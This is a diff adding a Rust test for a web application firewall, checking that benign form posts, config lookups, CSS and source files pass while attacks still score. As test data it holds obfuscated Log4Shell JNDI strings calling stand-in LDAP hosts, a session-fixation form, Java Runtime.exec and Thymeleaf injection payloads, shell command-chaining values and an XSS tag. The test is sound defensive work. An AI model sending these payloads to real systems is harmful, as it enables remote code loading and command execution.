@@ -6617,3 +6617,92 @@ fn holdout98_to_103_classes_pass_and_their_attacks_still_score() {
     let o = send("PUT", "/v1/files/x", "audio/x-mpegurl", "#EXTM3U\n#EXTINF:10,<script>alert(1)</script>\nseg1.ts\n");
     assert!(blocked_category(&o, Category::Xss), "{o:?}");
 }
+
+#[test]
+fn holdout104_to_106_classes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+    let form = |headers: &[(&str, &str)], body: &str| {
+        let ct = "application/x-www-form-urlencoded";
+        let mut h = vec![("content-type", ct)];
+        h.extend_from_slice(headers);
+        let mut r = get("/api/v2/sessions/5120/attachments", &h);
+        r.method = "POST".into();
+        r.push_header("content-length", body.len().to_string().as_bytes());
+        let mut s = waf.inspect_head(&r);
+        waf.inspect_body(&mut s, ct.as_bytes(), body.as_bytes());
+        waf.outcome(&s)
+    };
+
+    // A session-id-named field that the browser says comes from the same site (Fetch Metadata:
+    // a page on `shop.example` posting to `book.shop.example`) fixes no session (4350); from
+    // another site, from a link opened outside the browser (`none`) or without the header and a
+    // same-host Referer, it still counts.
+    for site in ["same-site", "same-origin", "Same-Site"] {
+        let o = form(
+            &[("sec-fetch-site", site), ("referer", "https://shop.example/account")],
+            "session_id=5120&kind=lyrics",
+        );
+        assert!(!o.blocked && rule(&o, 4350).is_none(), "{site}: {o:?}");
+    }
+    for headers in [
+        &[("sec-fetch-site", "cross-site"), ("referer", "https://evil.example/")][..],
+        &[("sec-fetch-site", "none")][..],
+        &[("referer", "https://evil.example/")][..],
+    ] {
+        let o = form(headers, "PHPSESSID=attacker&kind=lyrics");
+        assert!(rule(&o, 4350) == Some(5), "{headers:?}: {o:?}");
+    }
+
+    // The Serverless Framework's `${ssm:/app/${sls:stage}/url}` nests a lookup in a value (4400);
+    // nested where it spells the outer lookup's prefix, it still counts.
+    let yml = "service: order-notifier\nprovider:\n  environment:\n    TABLE_NAME: ${self:service}-${sls:stage}-orders\n    SLACK_WEBHOOK_URL: ${ssm:/order-notifier/${sls:stage}/slack-webhook}\n";
+    let o = post("/v1/config/validate", "application/x-yaml", yml, &waf);
+    assert!(!o.blocked && rule(&o, 4400).is_none(), "{o:?}");
+    for v in [
+        "${${lower:j}ndi:ldap://x.example/a}",
+        "${j${::-n}di:ldap://x}",
+        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
+        "${ssm:${jndi:ldap://x}}",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 4400) == Some(5), "{v}: {o:?}");
+        }
+    }
+
+    // A route pattern alone in a JSON field (`"/*"` in a CDN invalidation, an edge matcher) is
+    // no glob a shell expands (3205); as a query argument, after a command or before more it
+    // still is.
+    let o = json_post(&waf, r#"{"Paths": {"Quantity": 3, "Items": ["/*", "/api/v2/*", "/assets/**"]}}"#);
+    assert!(!o.blocked && rule(&o, 3205).is_none(), "{o:?}");
+    for body in [r#"{"p": "cat /*"}"#, r#"{"p": "/*;id"}"#, r#"{"p": "/*/bin"}"#] {
+        assert!(rule(&json_post(&waf, body), 3205) == Some(5), "{body}");
+    }
+    assert!(rule(&outcome(&waf, "/x?p=%2F%2A"), 3205) == Some(5));
+
+    // A Java source file (a course's submission with `import java.util.ArrayDeque;`) names
+    // classes by design (4401 weak); with reflection or process creation it still counts.
+    let java = "import java.util.ArrayDeque;\nimport java.util.Scanner;\n\npublic class Main {\n    public static void main(String[] args) {\n        ArrayDeque<Integer> q = new ArrayDeque<>();\n        q.add(1);\n        System.out.println(q.peek());\n    }\n}\n";
+    let o = json_post(&waf, &serde_json::json!({ "language": "java", "source": java }).to_string());
+    assert!(!o.blocked && rule(&o, 4401) != Some(5), "{o:?}");
+    let evil = java.replace("q.add(1);", "java.lang.Runtime.getRuntime().exec(\"id\");");
+    let o = json_post(&waf, &serde_json::json!({ "language": "java", "source": evil }).to_string());
+    assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Java && m.score == 5), "{o:?}");
+
+    // CSS's universal selector and its block (`*{transition:none!important}`) is no Thymeleaf
+    // selection (3600); `*{T(java.lang.Runtime)…}` and `*{name}` are.
+    let css = ".sale{color:#b91c1c}\n@media (prefers-reduced-motion:reduce){*{transition:none!important;animation:none!important}}\n";
+    let o = json_post(&waf, &serde_json::json!({ "asset": { "key": "assets/theme.css", "value": css } }).to_string());
+    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");
+    for v in ["*{T(java.lang.Runtime).getRuntime().exec('id')}", "x *{name}"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 3600) == Some(5), "{v}: {o:?}");
+        }
+    }
+
+    // A Sieve script (RFC 5804's `application/sieve`) is in the media-type list, read as text.
+    let sieve =
+        "require [\"fileinto\"];\nif header :contains \"subject\" \"[invoice]\" {\n  fileinto \"Invoices\";\n}\n";
+    let o = post("/api/v1/sieve/scripts/main", "application/sieve", sieve, &waf);
+    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
+}
